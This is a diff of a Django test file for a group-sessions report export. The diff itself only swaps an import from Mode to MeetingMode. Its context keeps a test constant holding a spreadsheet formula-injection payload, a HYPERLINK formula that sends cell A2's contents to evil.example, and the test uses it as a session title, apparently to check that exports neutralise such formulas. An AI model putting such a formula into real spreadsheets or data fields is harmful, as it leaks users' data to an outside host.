@@ -7,8 +7,9 @@ import io
 from django.urls import reverse
 from openpyxl import load_workbook
 
+from acompana.common.choices import MeetingMode
 from acompana.group_sessions import services
-from acompana.group_sessions.models import Kind, Mode
+from acompana.group_sessions.models import Kind
 from acompana.group_sessions.tests.conftest import at
 
 ATTACK = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
@@ -22,7 +23,7 @@ def export(world, cohort, as_persona, fmt):
         title=ATTACK,
         starts_at=at(datetime.date(2026, 3, 2)),
         duration_minutes=60,
-        mode=Mode.IN_PERSON,
+        mode=MeetingMode.IN_PERSON,
         actor=world.coordinator,
     )
     address = reverse("group_sessions:report", args=[world.program.slug])
